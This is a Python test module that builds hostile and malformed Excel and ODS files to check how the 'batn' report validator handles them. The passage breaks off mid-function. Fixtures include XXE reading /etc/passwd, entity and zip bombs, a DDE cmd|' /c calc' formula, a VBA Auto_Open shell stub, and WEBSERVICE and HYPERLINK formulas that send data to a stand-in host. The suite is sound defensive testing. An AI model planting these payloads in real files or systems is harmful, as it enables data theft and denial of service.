"""Hostile and broken input files for batn (issue 7), made as real files on disk.

    from hostile import make_all
    cases = make_all(tmp_path, cat2024, unit, period2024, valid_values)

Each `Case` says what must happen to its file:

* ("finding", kind, severity, cell_or_None): `batn validate` reports a finding of that kind and
  severity naming the file, located at that cell ("Số liệu!D51") when there is one;
* ("read", {code: value, ...}): the meaning is certain, the file is read exactly to those values
  (every indicator of the catalogue, unless the dict says otherwise), with no lỗi; the finding
  kinds in `also` (cảnh báo such as legacy-format or has-macros) must be present and no others.

Keys of a "read" dict starting with "@" are checks on the submission rather than indicator
values: "@unit", "@period", "@is_total", "@narr:<key>" (the narrative rows read).

The units of the run (UNITS_CSV): the hostile files claim DCS_STP (or CD_VP, or codes outside
the list); DCS_SYT, CD_BV and DCS_SGD are left to good files, whose totals must come out the same
with or without the hostile files beside them.

Run as a script, this module reads one file or consolidates one inbox and prints JSON, so a test
can do it in a child process under a memory limit (`run_limited`):

    python tests/hostile.py read FILE [UNITS_CSV]
    python tests/hostile.py consolidate INBOX UNITS_CSV
    python tests/hostile.py cli validate FILE --json ...     (batn itself)
"""
from __future__ import annotations

import json
import os
import re
import shutil
import signal
import struct
import subprocess
import sys
import tempfile
import time
import unicodedata
import zipfile
from dataclasses import dataclass, field
from datetime import date, datetime
from pathlib import Path
from typing import Callable, Iterator, Mapping

HERE = Path(__file__).resolve().parent
if str(HERE) not in sys.path:
    sys.path.insert(0, str(HERE))

ERROR, WARNING = "lỗi", "cảnh báo"
DATA = "Số liệu"
SHEET_DATA = "xl/worksheets/sheet1.xml"      # where openpyxl writes the template's sheets
SHEET_MOHINH = "xl/worksheets/sheet2.xml"
WORKBOOK = "xl/workbook.xml"

UNITS_CSV = """code,name,parent,level
TD,Tỉnh Đoàn Mẫu,,Tỉnh Đoàn
DCS_STP,Đoàn cơ sở Sở Tư pháp,TD,Đoàn cơ sở
CD_VP,Chi đoàn Văn phòng Sở Tư pháp,DCS_STP,Chi đoàn
DCS_SVH,Đoàn cơ sở Sở Văn hóa,TD,Đoàn cơ sở
DCS_SYT,Đoàn cơ sở Sở Y tế,TD,Đoàn cơ sở
CD_BV,Chi đoàn Bệnh viện Đa khoa,DCS_SYT,Chi đoàn
DCS_SGD,Đoàn cơ sở Sở Giáo dục và Đào tạo,TD,Đoàn cơ sở
"""
GOOD_UNITS = ("DCS_SYT", "CD_BV", "DCS_SGD")     # only good files speak for these
HOSTILE_UNITS = ("DCS_STP", "CD_VP", "DCS_SVH")  # hostile files claim these (or unknown codes)

# Cells the cases break (3tn-2024): counts that no rule reads, so one bad cell gives one finding.
CODE = "CD_HIENMAU"
PAIR = ("CD_CAYXANH", "CD_THIEUNHI")   # two rule-free inputs on adjacent rows
# Cached values of formulas that reach outside the file: they must never be read or summed.
SENTINELS = {"external": 999_001, "webservice": 999_002, "dde": 999_003, "hyperlink": 999_004,
             "shared": 999_005, "shared2": 999_006, "link-part": 999_007}
RECEIVED = datetime(2024, 12, 10, 9, 0).timestamp()   # before every deadline of period 2024


@dataclass
class Case:
    name: str
    path: Path
    expect: tuple
    note: str = ""                        # the input, in Vietnamese, for docs/dau-vao-xau.md
    also: tuple[str, ...] = ()            # other finding kinds that must be reported too
    values: dict | None = None            # for "finding" cases: values that must be read all the same
    units: Path | None = None             # validate against this units file instead of units.csv
    extra: tuple[Path, ...] = ()          # files that go into the inbox with it
    scope: str = "validate"               # "consolidate": the finding shows only in a consolidation
    sentinels: tuple[int, ...] = ()       # numbers that must never be read from this file
    heavy: bool = False                   # may need much time or memory: read it in a child process
    unit: str = "DCS_STP"                 # the unit the file claims to be
    mentions: tuple[str, ...] = ()        # words the expected finding's message must contain


@dataclass
class _Ctx:
    dir: Path
    work: Path
    cat: object
    unit: object
    period: object
    values: dict
    units_csv: Path
    good: Path                            # a clean filled template of the hostile unit
    conversions: list = field(default_factory=list)   # (src, fmt, dst) for LibreOffice
    rows: dict = field(default_factory=dict)           # code -> row of its input cell


_BUILDERS: list[tuple[str, Callable[[_Ctx, str], Case]]] = []


def case(name: str):
    def register(fn):
        _BUILDERS.append((name, fn))
        return fn
    return register


def case_names() -> list[str]:
    return [n for n, _ in _BUILDERS]


# ---------------------------------------------------------------- helpers

def cell_of(ctx: _Ctx, code: str) -> str:
    return f"{DATA}!D{ctx.rows[code]}"


def rezip(src: Path, dst: Path, change: Callable[[str, bytes], bytes | None], add: Mapping[str, bytes] = {}) -> Path:
    """Copy a zip member by member; `change(name, data)` returns new bytes, or None to drop it."""
    with zipfile.ZipFile(src) as zi, zipfile.ZipFile(dst, "w", zipfile.ZIP_DEFLATED) as zo:
        for info in zi.infolist():
            data = change(info.filename, zi.read(info.filename))
            if data is not None:
                zo.writestr(info.filename, data)
        for name, data in add.items():
            zo.writestr(name, data)
    return dst


def in_part(part: str, fn: Callable[[bytes], bytes]) -> Callable[[str, bytes], bytes]:
    return lambda n, b: fn(b) if n == part else b


def chain(*fns: Callable[[bytes], bytes]) -> Callable[[bytes], bytes]:
    def run(b: bytes) -> bytes:
        for f in fns:
            b = f(b)
        return b
    return run


def set_cell(ref: str, body: str | bytes, attrs: str = "") -> Callable[[bytes], bytes]:
    """Replace cell `ref` of a sheet's XML by <c r=ref attrs>body</c> (raw XML)."""
    body = body.encode() if isinstance(body, str) else body
    pat = re.compile(rb'<c r="%s"[^>]*?(?:/>|>.*?</c>)' % ref.encode(), re.S)

    def change(xml: bytes) -> bytes:
        m = pat.search(xml)
        if not m:
            raise ValueError(f"no cell {ref}")
        return xml[:m.start()] + b'<c r="%s"%s>%s</c>' % (ref.encode(), attrs.encode(), body) + xml[m.end():]
    return change


def xml_text(s: str) -> str:
    return s.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;").replace('"', "&quot;")


def inline(ref: str, text: str) -> Callable[[bytes], bytes]:
    return set_cell(ref, f'<is><t xml:space="preserve">{xml_text(text)}</t></is>', ' t="inlineStr"')


def formula(ref: str, f: str, cached: object = None, t: str = "") -> Callable[[bytes], bytes]:
    v = "" if cached is None else f"<v>{xml_text(str(cached))}</v>"
    return set_cell(ref, f"<f>{xml_text(f)}</f>{v}", f' t="{t}"' if t else "")


def tamper(src: Path, dst: Path, change) -> Path:
    from openpyxl import load_workbook

    wb = load_workbook(src)
    change(wb)
    wb.save(dst)
    return dst


def _write(ctx: _Ctx, name: str, values=None, *, unit=None, period=None, catalogue=None,
           narratives=None, **kw) -> Path:
    from batn.xlsx.template import write_template

    return write_template(ctx.dir / name, catalogue or ctx.cat, unit or ctx.unit, period or ctx.period,
                          values=ctx.values if values is None else values, narratives=narratives, **kw)


def _with(ctx: _Ctx, **changes) -> dict:
    return {**ctx.values, **changes}


def _good_copy(ctx: _Ctx, name: str) -> Path:
    dst = ctx.dir / name
    shutil.copyfile(ctx.good, dst)
    return dst


def _unit(code: str, name: str, parent: str = "TD"):
    from batn.model import Unit

    return Unit(code, name, parent)


def _one_cell(ctx, name, ref_code, change_fn, kind, severity, note, *, read=None, **kw) -> Case:
    """A good file with one input cell rewritten; the others must still be read."""
    path = rezip(ctx.good, ctx.dir / name, in_part(SHEET_DATA, change_fn))
    return Case("", path, ("finding", kind, severity, cell_of(ctx, ref_code)), note,
                values=_with(ctx, **{ref_code: read}), **kw)


# ---------------------------------------------------------------- not a workbook at all

@case("empty")
def _(ctx, n):
    p = ctx.dir / f"{n}.xlsx"
    p.write_bytes(b"")
    return Case(n, p, ("finding", "unreadable-file", ERROR, None), "Tệp rỗng (0 byte)", mentions=("rỗng",))


@case("truncated-zip")
def _(ctx, n):
    data = ctx.good.read_bytes()
    p = ctx.dir / f"{n}.xlsx"
    p.write_bytes(data[: len(data) * 2 // 3])
    return Case(n, p, ("finding", "unreadable-file", ERROR, None), "Tệp .xlsx bị cắt cụt (tải về dở dang)")


@case("corrupt-central-directory")
def _(ctx, n):
    data = bytearray(ctx.good.read_bytes())
    cd = data.rfind(b"PK\x01\x02", 0, len(data) - 22)      # the last central-directory record
    first = data.find(b"PK\x01\x02")
    for i in range(first + 4, cd + 46, 7):                  # flip bytes all over the directory
        data[i] ^= 0x5A
    p = ctx.dir / f"{n}.xlsx"
    p.write_bytes(bytes(data))
    return Case(n, p, ("finding", "unreadable-file", ERROR, None),
                "Tệp .xlsx hỏng: các byte trong thư mục trung tâm (central directory) của tệp nén bị đảo")


@case("csv-renamed")
def _(ctx, n):
    p = ctx.dir / f"{n}.xlsx"
    p.write_text("Mã chỉ tiêu,Số liệu\nTT_DOANVIEN,12\nCD_HIENMAU,3\n", encoding="utf-8")
    return Case(n, p, ("finding", "unreadable-file", ERROR, None), "Tệp CSV đổi đuôi thành .xlsx", mentions=("CSV",))


@case("html-renamed")
def _(ctx, n):
    p = ctx.dir / f"{n}.xlsx"
    p.write_text("<html><head><meta charset='utf-8'></head><body><table><tr><td>Đoàn viên</td><td>12</td></tr>"
                 "</table><script>alert(1)</script></body></html>", encoding="utf-8")
    return Case(n, p, ("finding", "unreadable-file", ERROR, None),
                "Trang HTML (xuất từ phần mềm khác, có cả <script>) đổi đuôi thành .xlsx", mentions=("HTML",))


@case("xml2003-renamed")
def _(ctx, n):
    p = ctx.dir / f"{n}.xlsx"
    p.write_text('<?xml version="1.0"?>\n<?mso-application progid="Excel.Sheet"?>\n'
                 '<Workbook xmlns="urn:schemas-microsoft-com:office:spreadsheet"><Worksheet ss:Name="Số liệu"/>'
                 "</Workbook>", encoding="utf-8")
    return Case(n, p, ("finding", "unreadable-file", ERROR, None),
                "Tệp “XML Spreadsheet 2003” đổi đuôi thành .xlsx", mentions=("XML Spreadsheet 2003",))


@case("random-bytes")
def _(ctx, n):
    import random

    p = ctx.dir / f"{n}.xlsx"
    p.write_bytes(bytes(random.Random(7).getrandbits(8) for _ in range(8192)))
    return Case(n, p, ("finding", "unreadable-file", ERROR, None), "8 KB byte ngẫu nhiên mang đuôi .xlsx")


@case("docx-renamed")
def _(ctx, n):
    p = ctx.dir / f"{n}.xlsx"
    with zipfile.ZipFile(p, "w") as z:
        z.writestr("[Content_Types].xml", '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>')
        z.writestr("word/document.xml", "<w:document xmlns:w='http://schemas.openxmlformats.org/wordprocessingml/2006/main'/>")
    return Case(n, p, ("finding", "unreadable-file", ERROR, None),
                "Tệp Word (.docx) đổi đuôi thành .xlsx: tệp nén không có sổ tính",
                mentions=("không chứa sổ tính",))


@case("oversized-file")
def _(ctx, n):
    # A real workbook padded past MAX_FILE_BYTES with an incompressible (stored) part.
    p = ctx.dir / f"{n}.xlsx"
    shutil.copyfile(ctx.good, p)
    with zipfile.ZipFile(p, "a", zipfile.ZIP_STORED) as z, z.open("xl/media/image1.bin", "w") as f:
        chunk = os.urandom(1 << 20)
        for i in range(26):
            f.write(chunk[i:] + chunk[:i])
    return Case(n, p, ("finding", "unreadable-file", ERROR, None),
                "Tệp 26 MB (ảnh chụp lớn dán vào sổ tính), vượt giới hạn 25 MB", heavy=True,
                mentions=("quá lớn",))


@case("zip-entry-encrypted-flag")
def _(ctx, n):
    # Every member flagged "encrypted" (general purpose bit 0): no reader can inflate it.
    data = bytearray(ctx.good.read_bytes())
    for sig, off in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        i = data.find(sig)
        while i >= 0:
            data[i + off] |= 0x01
            i = data.find(sig, i + 4)
    p = ctx.dir / f"{n}.xlsx"
    p.write_bytes(bytes(data))
    return Case(n, p, ("finding", "unreadable-file", ERROR, None),
                "Tệp nén có các phần được đánh dấu mã hóa kiểu ZIP (ZipCrypto)")


def _cfb_with_encrypted_package(payload: bytes) -> bytes:
    """A minimal OLE compound file (MS-CFB v3) holding one "EncryptedPackage" stream."""
    sec = 512
    payload = payload + b"\0" * (-len(payload) % sec)
    if len(payload) < 4096:                       # keep it out of the mini stream
        payload += b"\0" * (4096 - len(payload))
    n = len(payload) // sec
    END, FREE, FATSECT = 0xFFFFFFFE, 0xFFFFFFFF, 0xFFFFFFFD
    fat = [FATSECT, END] + [3 + i for i in range(n - 1)] + [END]
    fat += [FREE] * (sec // 4 - len(fat))
    header = (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 16 + struct.pack("<HHHHH", 0x3E, 3, 0xFFFE, 9, 6)
              + b"\0" * 6 + struct.pack("<IIIIIIIII", 0, 1, 1, 0, 4096, END, 0, END, 0)
              + struct.pack("<I", 0) + struct.pack("<I", FREE) * 108)

    def entry(name: str, kind: int, child: int, start: int, size: int) -> bytes:
        raw = name.encode("utf-16-le") + b"\0\0" if name else b""
        return (raw.ljust(64, b"\0") + struct.pack("<HBB", len(raw), kind, 1)
                + struct.pack("<III", FREE, FREE, child) + b"\0" * 16 + b"\0" * 4 + b"\0" * 16
                + struct.pack("<IQ", start, size))

    directory = (entry("Root Entry", 5, 1, END, 0) + entry("EncryptedPackage", 2, FREE, 2, len(payload))
                 + entry("", 0, FREE, 0, 0) * 2)
    return header + struct.pack(f"<{sec // 4}I", *fat) + directory + payload


@case("password-protected")
def _(ctx, n):
    p = ctx.dir / f"{n}.xlsx"
    try:
        from msoffcrypto.format.ooxml import OOXMLFile

        with open(ctx.good, "rb") as src, open(p, "wb") as out:
            OOXMLFile(src).encrypt("matkhau123", out)
        how = "mã hóa thật bằng msoffcrypto-tool (ECMA-376 Agile)"
    except ImportError:
        p.write_bytes(_cfb_with_encrypted_package(os.urandom(8192)))
        how = "tệp OLE có luồng EncryptedPackage, dựng tay"
    return Case(n, p, ("finding", "unreadable-file", ERROR, None), f"Sổ tính đặt mật khẩu mở ({how})",
                mentions=("mật khẩu",))


# ---------------------------------------------------------------- other formats

def _legacy(ctx, n, fmt) -> Case:
    src = ctx.work / f"{n}.xlsx"
    shutil.copyfile(ctx.good, src)
    dst = ctx.dir / f"{n}.{fmt}"
    ctx.conversions.append((src, fmt, dst))
    return Case(n, dst, ("read", dict(ctx.values)), also=("legacy-format",),
                note=f"Biểu mẫu được LibreOffice lưu lại dạng .{fmt} (không còn tên định danh)")


@case("legacy-xls")
def _(ctx, n):
    return _legacy(ctx, n, "xls")


@case("legacy-ods")
def _(ctx, n):
    return _legacy(ctx, n, "ods")


@case("foreign-xls")
def _(ctx, n):
    from openpyxl import Workbook

    wb = Workbook()
    ws = wb.active
    ws.title = DATA
    ws.append(["Chỉ tiêu", "Số liệu"])
    ws.append(["Đoàn viên", 25])
    src = ctx.work / f"{n}.xlsx"
    wb.save(src)
    dst = ctx.dir / f"{n}.xls"
    ctx.conversions.append((src, "xls", dst))
    return Case(n, dst, ("finding", "not-a-template", ERROR, None),
                "Tệp .xls tự lập (có trang “Số liệu” nhưng không theo biểu mẫu)")


@case("xlsb-in-inbox")
def _(ctx, n):
    # What Excel's "Binary Workbook" looks like from outside: a zip whose workbook part is .bin.
    p = ctx.dir / f"{n}.xlsb"
    with zipfile.ZipFile(p, "w") as z:
        z.writestr("[Content_Types].xml", '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>')
        z.writestr("xl/workbook.bin", b"\x83\x01\x00")
    return Case(n, p, ("finding", "unreadable-file", ERROR, None),
                "Sổ tính nhị phân .xlsb gửi vào hộp thư (batn không đọc .xlsb)", scope="consolidate")


@case("xlsm-macros")
def _(ctx, n):
    def ctypes(b):
        return b.replace(b"application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml",
                         b"application/vnd.ms-excel.sheet.macroEnabled.main+xml").replace(
            b"</Types>", b'<Override PartName="/xl/vbaProject.bin" ContentType="application/vnd.ms-office.vbaProject"/></Types>')

    vba = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"Sub Auto_Open(): Shell \"calc.exe\": End Sub".ljust(4088, b"\0")
    p = rezip(ctx.good, ctx.dir / f"{n}.xlsm", in_part("[Content_Types].xml", ctypes), {"xl/vbaProject.bin": vba})
    return Case(n, p, ("read", dict(ctx.values)), "Tệp .xlsm có macro VBA (Auto_Open gọi chương trình)",
                also=("has-macros",))


# ---------------------------------------------------------------- bombs and limits

@case("zip-bomb")
def _(ctx, n):
    # One 256 MiB part of blanks deflated to about 260 KB: ratio ~1000 (the most deflate gives).
    p = rezip(ctx.good, ctx.dir / f"{n}.xlsx", lambda name, b: b)
    block = b" " * (1 << 20)
    with zipfile.ZipFile(p, "a", zipfile.ZIP_DEFLATED, compresslevel=6) as z, \
            z.open("xl/worksheets/sheet19.xml", "w", force_zip64=True) as f:
        for _ in range(256):
            f.write(block)
    return Case(n, p, ("finding", "unreadable-file", ERROR, None),
                "Bom nén: một phần 256 MiB khoảng trắng nén còn khoảng 280 KB (tỉ lệ ~1000 lần)", heavy=True,
                mentions=("giải nén",))


_LAUGHS = ('<!DOCTYPE lolz [<!ENTITY lol "lol">'
           + "".join(f'<!ENTITY lol{k} "{("&lol%d;" % (k - 1) if k > 1 else "&lol;") * 10}">' for k in range(1, 10))
           + "]>")


def _add_shared_strings(xml: bytes) -> Callable[[str, bytes], bytes]:
    def change(name, b):
        if name == "[Content_Types].xml":
            return b.replace(b"</Types>", b'<Override PartName="/xl/sharedStrings.xml" ContentType='
                             b'"application/vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"/></Types>')
        if name == "xl/_rels/workbook.xml.rels":
            return b.replace(b"</Relationships>", b'<Relationship Id="rIdSS" Target="sharedStrings.xml" Type='
                             b'"http://schemas.openxmlformats.org/officeDocument/2006/relationships/sharedStrings"/>'
                             b"</Relationships>")
        if name == SHEET_DATA:
            return set_cell("D51", b"<v>0</v>", ' t="s"')(b)
        return b
    return change


@case("entities-sharedstrings")
def _(ctx, n):
    xml = ('<?xml version="1.0" encoding="UTF-8"?>' + _LAUGHS +
           '<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" count="1" uniqueCount="1">'
           "<si><t>&lol9;</t></si></sst>").encode()
    p = rezip(ctx.good, ctx.dir / f"{n}.xlsx", _add_shared_strings(xml), {"xl/sharedStrings.xml": xml})
    return Case(n, p, ("finding", "unreadable-file", ERROR, None),
                "“Billion laughs”: khai báo thực thể XML lồng nhau trong sharedStrings.xml", mentions=("DOCTYPE",))


@case("entities-sheet")
def _(ctx, n):
    def bomb(b):
        i = b.index(b"<worksheet")
        b = set_cell(f"D{ctx.rows[CODE]}", b"<is><t>&lol9;</t></is>", ' t="inlineStr"')(b)
        return b'<?xml version="1.0" encoding="UTF-8"?>' + _LAUGHS.replace("lolz", "worksheet").encode() + b[i:]
    p = rezip(ctx.good, ctx.dir / f"{n}.xlsx", in_part(SHEET_DATA, bomb))
    return Case(n, p, ("finding", "unreadable-file", ERROR, None),
                "“Billion laughs” trong chính trang “Số liệu”", mentions=("DOCTYPE",))


@case("xxe-external-entity")
def _(ctx, n):
    xml = (b'<?xml version="1.0" encoding="UTF-8"?><!DOCTYPE sst [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
           b'<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" count="1" uniqueCount="1">'
           b"<si><t>&xxe;</t></si></sst>")
    p = rezip(ctx.good, ctx.dir / f"{n}.xlsx", _add_shared_strings(xml), {"xl/sharedStrings.xml": xml})
    return Case(n, p, ("finding", "unreadable-file", ERROR, None),
                "Thực thể XML ngoài (XXE) trỏ tới file:///etc/passwd", mentions=("DOCTYPE",))


@case("entity-in-number-cell")
def _(ctx, n):
    # The same "billion laughs" DTD, but the entity is used in a number cell's <v>, not in a string.
    def bomb(b):
        i = b.index(b"<worksheet")
        b = set_cell(f"D{ctx.rows[CODE]}", b"<v>&lol9;</v>", ' t="n"')(b)
        return b'<?xml version="1.0" encoding="UTF-8"?>' + _LAUGHS.replace("lolz", "worksheet").encode() + b[i:]
    p = rezip(ctx.good, ctx.dir / f"{n}.xlsx", in_part(SHEET_DATA, bomb))
    return Case(n, p, ("finding", "unreadable-file", ERROR, None),
                "“Billion laughs” trong trang “Số liệu”, thực thể dùng trong ô số (<v>&lol9;</v>)", mentions=("DOCTYPE",))


@case("doctype-padded-sharedstrings")
def _(ctx, n):
    # The DOCTYPE may follow any amount of whitespace after the XML declaration.
    xml = ('<?xml version="1.0" encoding="UTF-8"?>' + " " * 4096 + _LAUGHS.replace("lolz", "sst") +
           '<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" count="1" uniqueCount="1">'
           "<si><t>&lol9;</t></si></sst>").encode()
    p = rezip(ctx.good, ctx.dir / f"{n}.xlsx", _add_shared_strings(xml), {"xl/sharedStrings.xml": xml})
    return Case(n, p, ("finding", "unreadable-file", ERROR, None),
                "“Billion laughs” trong sharedStrings.xml, đặt sau 4 KB khoảng trắng (qua mặt việc dò 2 KB đầu)",
                mentions=("DOCTYPE",))


@case("doctype-utf16")
def _(ctx, n):
    def u16(b):
        i = b.index(b"<worksheet")
        body = set_cell(f"D{ctx.rows[CODE]}", b"<v>&a;</v>", ' t="n"')(b[i:]).decode()
        return ('<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE worksheet [<!ENTITY a "123">]>' + body).encode("utf-16")
    p = rezip(ctx.good, ctx.dir / f"{n}.xlsx", in_part(SHEET_DATA, u16))
    return Case(n, p, ("finding", "unreadable-file", ERROR, None),
                "Trang tính mã hóa UTF-16 có khai báo DOCTYPE/ENTITY (qua mặt việc dò chuỗi byte UTF-8)",
                mentions=("DOCTYPE",))


def _stream_rows(src: Path, dst: Path, rows: Callable[[], Iterator[bytes]], dimension: bytes) -> Path:
    """Copy `src`, appending rows to the data sheet, written straight into the zip (streamed)."""
    with zipfile.ZipFile(src) as zi, zipfile.ZipFile(dst, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as zo:
        for info in zi.infolist():
            data = zi.read(info.filename)
            if info.filename != SHEET_DATA:
                zo.writestr(info.filename, data)
                continue
            head, tail = data.split(b"</sheetData>")
            head = re.sub(rb'<dimension ref="[^"]*"/>', b'<dimension ref="' + dimension + b'"/>', head)
            with zo.open(SHEET_DATA, "w", force_zip64=True) as f:
                f.write(head)
                for chunk in rows():
                    f.write(chunk)
                f.write(b"</sheetData>" + tail)
    return dst


@case("million-rows")
def _(ctx, n):
    def rows():
        for start in range(101, 1_000_101, 20_000):
            yield b"".join(b'<row r="%d"><c r="A%d"><v>%d</v></c></row>' % (r, r, r) for r in range(start, start + 20_000))
    p = _stream_rows(ctx.good, ctx.dir / f"{n}.xlsx", rows, b"A1:H1000100")
    return Case(n, p, ("read", dict(ctx.values)), "Một triệu dòng số liệu rác dán dưới bảng của trang “Số liệu”",
                heavy=True)


@case("columns-16384")
def _(ctx, n):
    from openpyxl.utils import get_column_letter

    def rows():
        yield b'<row r="70">' + b"".join(b'<c r="%s70"><v>%d</v></c>' % (get_column_letter(c).encode(), c)
                                         for c in range(1, 16385)) + b"</row>"
    p = _stream_rows(ctx.good, ctx.dir / f"{n}.xlsx", rows, b"A1:XFD70")
    return Case(n, p, ("read", dict(ctx.values)), "Một dòng đủ 16.384 cột (A đến XFD) dưới bảng số liệu",
                heavy=True)


@case("far-corner-cell")
def _(ctx, n):
    def rows():
        yield b'<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>'
    p = _stream_rows(ctx.good, ctx.dir / f"{n}.xlsx", rows, b"A1:XFD1048576")
    return Case(n, p, ("finding", "unreadable-file", ERROR, None),
                "Tệp 20 KB có thêm một ô ở góc cuối XFD1048576 (vùng dữ liệu 17 tỷ ô)", heavy=True)


@case("ods-repeat-bomb")
def _(ctx, n):
    # An .ods whose one row repeats a filled cell 16.384 times across and 1.048.000 times down.
    src = ctx.work / f"{n}.xlsx"
    shutil.copyfile(ctx.good, src)
    mid = ctx.work / f"{n}.ods"
    ctx.conversions.append((src, "ods", mid))
    dst = ctx.dir / f"{n}.ods"

    def finish():
        row = (b'<table:table-row table:number-rows-repeated="1048000"><table:table-cell office:value-type="float"'
               b' office:value="1" table:number-columns-repeated="16384"/></table:table-row>')
        with zipfile.ZipFile(mid) as zi, zipfile.ZipFile(dst, "w", zipfile.ZIP_DEFLATED) as zo:
            for info in zi.infolist():
                data = zi.read(info.filename)
                if info.filename == "content.xml":
                    i = data.index(b"</table:table>")
                    data = data[:i] + row + data[i:]
                zo.writestr(info, data)
    ctx.conversions.append((None, "finish", finish))
    return Case(n, dst, ("finding", "unreadable-file", ERROR, None),
                "Tệp .ods có một ô lặp 16.384 cột × 1.048.000 dòng (bom lặp ô)", heavy=True)


# ---------------------------------------------------------------- input cells

@case("merged-input")
def _(ctx, n):
    a, b = PAIR
    src = ctx.good

    def merge(wb):
        wb[DATA].merge_cells(f"D{ctx.rows[a]}:D{ctx.rows[b]}")
    p = tamper(src, ctx.dir / f"{n}.xlsx", merge)
    return Case(n, p, ("finding", "merged-input", ERROR, cell_of(ctx, b)),
                f"Hai ô nhập D{ctx.rows[a]} và D{ctx.rows[b]} bị gộp (merge) làm một", values=_with(ctx, **{b: None}))


@case("formula-plain")
def _(ctx, n):
    r = ctx.rows[CODE]
    p = rezip(ctx.good, ctx.dir / f"{n}.xlsx", in_part(SHEET_DATA, formula(f"D{r}", "1+2", 3)))
    return Case(n, p, ("finding", "formula-in-input", WARNING, cell_of(ctx, CODE)),
                "Ô nhập chứa công thức =1+2 (giá trị đã tính 3)", values=_with(ctx, **{CODE: 3}))


@case("formula-no-cached-value")
def _(ctx, n):
    return _one_cell(ctx, f"{n}.xlsx", CODE, formula(f"D{ctx.rows[CODE]}", "SUM(D13:D14)"),
                     "formula-in-input", WARNING, "Ô nhập chứa công thức chưa được tính lại (không có giá trị lưu sẵn)")


@case("formula-external-ref")
def _(ctx, n):
    v = SENTINELS["external"]
    return _one_cell(ctx, f"{n}.xlsx", CODE, formula(f"D{ctx.rows[CODE]}", "[1]Sheet1!A1", v),
                     "formula-risky", ERROR, "Ô nhập trỏ tới tệp khác: =[1]Sheet1!A1", sentinels=(v,))


@case("formula-external-link-part")
def _(ctx, n):
    v = SENTINELS["link-part"]
    link = (b'<?xml version="1.0" encoding="UTF-8"?><externalLink xmlns="http://schemas.openxmlformats.org/'
            b'spreadsheetml/2006/main"><externalBook xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/'
            b'relationships" r:id="rId1"><sheetNames><sheetName val="Sheet1"/></sheetNames></externalBook></externalLink>')
    rels = (b'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/'
            b'2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
            b'relationships/externalLinkPath" Target="file:///\\\\may-chu\\chia-se\\so-lieu.xlsx" TargetMode="External"/>'
            b"</Relationships>")
    f = formula(f"D{ctx.rows[CODE]}", "'\\\\may-chu\\chia-se\\[so-lieu.xlsx]Sheet1'!$A$1", v)
    p = rezip(ctx.good, ctx.dir / f"{n}.xlsx", in_part(SHEET_DATA, f),
              {"xl/externalLinks/externalLink1.xml": link, "xl/externalLinks/_rels/externalLink1.xml.rels": rels})
    return Case(n, p, ("finding", "formula-risky", ERROR, cell_of(ctx, CODE)),
                "Ô nhập lấy số từ một sổ tính trên máy chủ chia sẻ (có phần externalLink)",
                also=("external-links",), values=_with(ctx, **{CODE: None}), sentinels=(v,))


@case("formula-webservice")
def _(ctx, n):
    v = SENTINELS["webservice"]
    return _one_cell(ctx, f"{n}.xlsx", CODE,
                     formula(f"D{ctx.rows[CODE]}", '_xlfn.WEBSERVICE("http://ke-xau.example/so-lieu?u=DCS_STP")', v),
                     "formula-risky", ERROR, "Ô nhập =WEBSERVICE(\"http://…\") lấy số từ Internet", sentinels=(v,),
                     mentions=("WEBSERVICE",))


@case("formula-dde")
def _(ctx, n):
    v = SENTINELS["dde"]
    return _one_cell(ctx, f"{n}.xlsx", CODE, formula(f"D{ctx.rows[CODE]}", "cmd|' /c calc'!A0", v),
                     "formula-risky", ERROR, "Ô nhập chứa lệnh DDE =cmd|' /c calc'!A0", sentinels=(v,),
                     mentions=("DDE",))


@case("formula-hyperlink")
def _(ctx, n):
    v = SENTINELS["hyperlink"]
    return _one_cell(ctx, f"{n}.xlsx", CODE,
                     formula(f"D{ctx.rows[CODE]}", f'HYPERLINK("http://ke-xau.example/?x="&D13,{v})', v),
                     "formula-risky", ERROR, "Ô nhập =HYPERLINK(…) gửi số liệu ra một địa chỉ web", sentinels=(v,))


@case("formula-shared-external")
def _(ctx, n):
    # Excel's fill-down: the master cell holds the formula text, the cell below only <f t="shared" si="0"/>.
    a, b = PAIR
    va, vb = SENTINELS["shared"], SENTINELS["shared2"]
    change = chain(
        set_cell(f"D{ctx.rows[a]}", f'<f t="shared" ref="D{ctx.rows[a]}:D{ctx.rows[b]}" si="0">[1]Sheet1!A1</f><v>{va}</v>'),
        set_cell(f"D{ctx.rows[b]}", f'<f t="shared" si="0"/><v>{vb}</v>'))
    p = rezip(ctx.good, ctx.dir / f"{n}.xlsx", in_part(SHEET_DATA, change))
    return Case(n, p, ("finding", "formula-risky", ERROR, cell_of(ctx, b)),
                "Liên kết ngoài =[1]Sheet1!A1 được kéo xuống ô dưới (công thức dùng chung, shared formula)",
                values=_with(ctx, **{a: None, b: None}), sentinels=(va, vb))


@case("formula-ref-error")
def _(ctx, n):
    return _one_cell(ctx, f"{n}.xlsx", CODE, formula(f"D{ctx.rows[CODE]}", "#REF!+1", "#REF!", t="e"),
                     "error-value", ERROR, "Ô nhập chứa công thức hỏng =#REF!+1")


@case("cached-error-value")
def _(ctx, n):
    return _one_cell(ctx, f"{n}.xlsx", CODE, set_cell(f"D{ctx.rows[CODE]}", "<v>#DIV/0!</v>", ' t="e"'),
                     "error-value", ERROR, "Ô nhập lưu giá trị lỗi #DIV/0! (t=\"e\")")


@case("date-in-number")
def _(ctx, n):
    p = tamper(ctx.good, ctx.dir / f"{n}.xlsx",
